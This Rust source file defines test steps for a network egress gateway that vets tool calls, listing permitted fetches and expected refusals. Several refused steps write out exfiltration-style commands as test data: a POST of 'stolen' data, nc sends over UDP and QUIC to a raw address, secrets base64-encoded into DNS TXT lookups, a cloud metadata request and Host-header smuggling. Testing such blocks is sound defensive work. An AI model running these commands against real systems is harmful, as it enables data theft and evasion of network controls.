//! What the demo does in runs, and what must come of it: at the client, in the records and at the servers.

/// One command in a run of its own, with what must come of it.
#[derive(Debug)]
pub(super) struct Step {
    /// What is tried, in a few words.
    pub(super) title: &'static str,
    /// Shell script that runs in the run; its output is compared.
    pub(super) script: &'static str,
    /// Part of what the client must print.
    pub(super) shows: &'static str,
    /// Whether it must pass.
    pub(super) verdict: Verdict,
    /// The record it must leave.
    pub(super) record: Record,
    /// What a server must have seen if it passes, and must not if it doesn't.
    pub(super) arrives: Arrival,
    /// Client that may be absent.
    pub(super) optional: Option<&'static str>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Verdict {
    Allowed,
    Refused,
}

/// A record by its telling fields.
#[derive(Debug)]
pub(super) struct Record {
    /// `request`, `stream`, `dns`, `connect`.
    pub(super) kind: &'static str,
    /// Name or address of the destination, or name of the question.
    pub(super) to: &'static str,
    /// Code of the refusal; empty if it passed.
    pub(super) code: &'static str,
}

/// Something at a server: its kind, its name, and the beginning of "METHOD /path".
#[derive(Debug)]
pub(super) struct Arrival {
    pub(super) server: &'static str,
    pub(super) name: &'static str,
    pub(super) request: &'static str,
}

const fn allowed(title: &'static str, script: &'static str, shows: &'static str) -> Step {
    Step {
        title,
        script,
        shows,
        verdict: Verdict::Allowed,
        record: Record { kind: "request", to: "", code: "" },
        arrives: Arrival { server: "http", name: "", request: "GET" },
        optional: None,
    }
}

const fn refused(title: &'static str, script: &'static str, shows: &'static str) -> Step {
    let mut step = allowed(title, script, shows);
    step.verdict = Verdict::Refused;
    step.arrives.request = "";
    step
}

impl Step {
    /// The request that it comes down to.
    const fn request(mut self, name: &'static str, code: &'static str) -> Self {
        self.record = Record { kind: "request", to: name, code };
        self.arrives.name = name;
        self
    }

    /// The record of another kind.
    const fn recorded(mut self, kind: &'static str, to: &'static str, code: &'static str) -> Self {
        self.record = Record { kind, to, code };
        self
    }

    /// What a server sees of it.
    const fn at(mut self, server: &'static str, name: &'static str, request: &'static str) -> Self {
        self.arrives = Arrival { server, name, request };
        self
    }

    const fn if_present(mut self, client: &'static str) -> Self {
        self.optional = Some(client);
        self
    }
}

const NODE: &str = "node -e 'fetch(\"https://www.example.com/node\").then(r => r.text()).then(console.log)'";
const PYTHON: &str = "python3 -c 'from urllib.request import urlopen; print(urlopen(\"https://www.example.com/python\").read())'";
const GIT: &str = "rm -rf demo && git clone --quiet https://git.example.com/demo.git && cat demo/README";
const PIP: &str = "pip3 install --quiet --target wheels --index-url https://pypi.example.com/simple strait-demo \
    && PYTHONPATH=wheels python3 -c 'import strait_demo; print(strait_demo.GREETING)'";
const NPM: &str = "mkdir -p node && cd node && npm install --silent --no-audit --no-fund --no-update-notifier \
    --registry https://npm.example.com/ strait-demo && node -p 'require(\"strait-demo\")'";
const PUSH: &str = "rm -rf push && git clone --quiet https://git.example.com/demo.git push && cd push \
    && git -c user.name=a -c user.email=a@b.c commit --quiet --allow-empty --message x && git push 2>&1";

pub(super) const STEPS: &[Step] = &[
    allowed("curl, HTTP", "curl -sS http://www.example.com/http", "hello from www.example.com/http")
        .request("www.example.com", ""),
    allowed(
        "curl, HTTPS, with no proxy variable set",
        "env | grep -i _proxy= ; curl -sS https://www.example.com/https",
        "hello from www.example.com/https",
    )
    .request("www.example.com", ""),
    allowed("curl, HTTP/2", "curl -sS --http2 -w '%{http_version}' https://api.example.com/v1/items", "}\n2")
        .request("api.example.com", ""),
    allowed(
        "curl, by explicit proxy",
        "curl -sS -x http://strait.internal:80 https://www.example.com/proxy",
        "/proxy",
    )
    .request("www.example.com", ""),
    allowed("wget", "wget -nv -O - https://www.example.com/wget", "hello from www.example.com/wget")
        .request("www.example.com", ""),
    allowed("git clone", GIT, "a repository that came through the gate").request("git.example.com", ""),
    allowed("python urllib", PYTHON, "/python").request("www.example.com", ""),
    allowed("pip install", PIP, "a wheel that came through the gate").request("pypi.example.com", ""),
    allowed("npm install", NPM, "a package that came through the gate").request("npm.example.com", ""),
    allowed("node fetch", NODE, "/node").request("www.example.com", "").if_present("node"),
    allowed("dig, a name", "dig +short www.example.com", "198.1")
        .recorded("dns", "www.example.com", "")
        .at("", "", ""),
    allowed("nc, a TCP stream by name", "echo marco | nc -N -w 5 echo.example.com 7", "marco")
        .recorded("stream", "echo.example.com", "")
        .at("echo", "echo.example.com", ""),
    refused("a host that no rule names", "curl -sS https://files.example.org/", "TOOL_CALL_DENIED")
        .request("files.example.org", "TOOL_CALL_DENIED"),
    refused(
        "POST where only GET is permitted",
        "curl -sS -d stolen=1 https://api.example.com/v1/items",
        "TOOL_CALL_DENIED",
    )
    .request("api.example.com", "TOOL_CALL_DENIED"),
    refused("git push, against a guardrail", PUSH, "403").request("git.example.com", "TOOL_CALL_DENIED").at(
        "http",
        "git.example.com",
        "GET /demo.git/info/refs?service=git-receive-pack",
    ),
    refused(
        "another host inside a permitted connection",
        "curl -sS -H 'Host: files.example.org' https://www.example.com/",
        "NAME_MISMATCH",
    )
    .request("files.example.org", "NAME_MISMATCH"),
    refused(
        "a name that leads into a private network",
        "curl -sS http://inside.example.com/",
        "ADDRESS_REFUSED",
    )
    .request("inside.example.com", "ADDRESS_REFUSED"),
    refused("a literal address", "curl -sS --max-time 5 http://93.184.215.10/ 2>&1", "93.184.215.10")
        .recorded("connect", "93.184.215.10", "KERNEL_DESTINATION")
        .at("http", "93.184.215.10", ""),
    refused(
        "the cloud's metadata address",
        "curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/ 2>&1",
        "169.254.169.254",
    )
    .recorded("connect", "169.254.169.254", "KERNEL_DESTINATION")
    .at("http", "169.254.169.254", ""),
    refused("UDP", "echo stolen | nc -u -w 1 93.184.215.10 9999 2>&1; echo status $?", "status 1")
        .recorded("connect", "93.184.215.10", "KERNEL_DESTINATION")
        .at("udp", "93.184.215.10", ""),
    refused("QUIC", "echo stolen | nc -u -w 1 93.184.215.10 443 2>&1; echo status $?", "status 1")
        .recorded("connect", "93.184.215.10", "KERNEL_QUIC")
        .at("udp", "93.184.215.10", ""),
    refused("IPv6", "curl -sS --max-time 5 'http://[2606:2800:21f:cb07::10]/' 2>&1", "2606:2800:21f:cb07")
        .recorded("connect", "2606:2800:21f:cb07::10", "KERNEL_DESTINATION")
        .at("http", "2606:2800:21f:cb07::10", ""),
    refused("a secret in a TXT lookup", "dig TXT c2VjcmV0.www.example.com", "REFUSED")
        .recorded("dns", "c2VjcmV0.www.example.com", "TOOL_CALL_DENIED")
        .at("dns", "c2VjcmV0.www.example.com", ""),
    refused(
        "a lookup by another resolver",
        "dig +tries=1 +time=2 @8.8.8.8 TXT c2VjcmV0.example.net",
        "REFUSED",
    )
    .recorded("dns", "c2VjcmV0.example.net", "TOOL_CALL_DENIED")
    .at("dns", "c2VjcmV0.example.net", ""),
    refused(
        "a TCP stream to a port that no rule names",
        "echo x | nc -w 2 echo.example.com 22 2>&1; echo end",
        "end",
    )
    .recorded("stream", "echo.example.com", "TOOL_CALL_DENIED")
    .at("echo", "echo.example.com", ""),
];
